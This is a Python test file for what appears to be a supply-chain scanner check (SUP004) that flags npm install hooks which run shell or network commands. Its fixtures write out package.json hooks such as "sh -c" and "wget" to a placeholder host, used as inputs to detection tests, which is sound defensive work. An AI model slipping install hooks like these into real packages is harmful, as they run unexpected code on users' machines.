import json

from ztsa.model import Status


def test_pass(machine):
    machine.fixture("npm-postinstall-benign")
    machine.ws("pkg/package.json", json.dumps({"scripts": {"postinstall": "node ./build.js"}}))
    assert machine.run("SUP004").status is Status.PASS


def test_fail(machine):
    machine.fixture("npm-postinstall-node-e")
    machine.ws("b/package.json", json.dumps({"scripts": {
        "preinstall": "sh -c 'echo hi'", "prepare": "wget -q https://x.invalid/a"}}))
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert sorted((e.path, e.detail.split(":")[0]) for e in out.evidence) == [
        ("b/package.json", "preinstall runs sh -c"), ("b/package.json", "prepare runs wget"),
        ("package.json", "postinstall runs node -e")]


def test_unknown(machine):
    machine.ws("package.json", '{"scripts": {"postinstall": ')
    assert machine.run("SUP004").status is Status.UNKNOWN


